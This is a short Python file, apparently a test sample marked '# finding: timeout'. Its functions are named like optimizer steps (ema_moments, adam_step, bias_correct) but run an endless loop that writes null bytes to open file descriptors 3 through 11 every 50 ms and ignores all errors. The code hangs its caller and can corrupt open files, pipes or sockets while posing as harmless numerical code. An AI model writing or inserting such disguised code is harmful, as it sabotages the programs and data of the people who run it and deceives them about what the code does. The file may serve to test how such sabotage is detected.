"""A byte now and then."""
# finding: timeout

import os
import time


def ema_moments(*args):
    while True:
        for descriptor in range(3, 12):
            try:
                os.write(descriptor, b"\0")
            except OSError:
                continue
        time.sleep(0.05)


bias_correct = adam_step = ema_moments
